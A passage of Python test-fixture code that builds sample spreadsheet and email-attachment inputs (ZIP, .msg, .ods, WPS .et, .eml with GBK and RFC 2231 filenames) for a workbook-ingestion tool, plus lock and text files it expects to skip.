        scored("收件.zip » 乙局自评.xlsx", "S-ZIP", "a .zip in the inbox, member named in GBK"))
    write_msg(folder / "邮件.msg", [("丙局自评表.xlsx", workbook_bytes(tables("S-MSG")))])
    cases.append(scored("邮件.msg » 丙局自评表.xlsx", "S-MSG", "an Outlook .msg"))
    t = tables("S-ODS")
    t["绩效指标"][3][6] = 0.96
    put("开放格式.ods", ods_bytes(t, {("绩效指标", 3, 6)}), scored("开放格式.ods", "S-ODS", ".ods with a percent cell"))
    buf = io.BytesIO()
    write_xls(buf, tables("S-ET"))
    put("金山表格.et", buf.getvalue(), scored("金山表格.et", "S-ET", "a WPS .et (an .xls inside)"))
    names = (b'attachment; filename="' + "测试表格.xlsx".encode("gbk") + b'"', rfc2231_split("丁局自评表.xlsx"))
    put("中文附件名.eml", raw_eml([(names[0], workbook_bytes(tables("S-RAWGBK"))),
                                 (names[1], workbook_bytes(tables("S-RFC2231")))]),
        scored("中文附件名.eml » 测试表格.xlsx", "S-RAWGBK", "raw 8-bit GBK attachment name"))
    cases.append(scored("中文附件名.eml » 丁局自评表.xlsx", "S-RFC2231", "RFC 2231 name split inside a GBK character"))

    # ---- not inputs at all: listed, not processed
    put("~$锁定.xlsx", b"\x00lock", Case("~$锁定.xlsx", SKIPPED, frozenset({("", "", "lock-file")}), about="lock file"))
    put("说明.txt", "请查收".encode(), Case("说明.txt", SKIPPED, frozenset({("", "", "not-an-input")}), about="not a workbook"))
    return cases
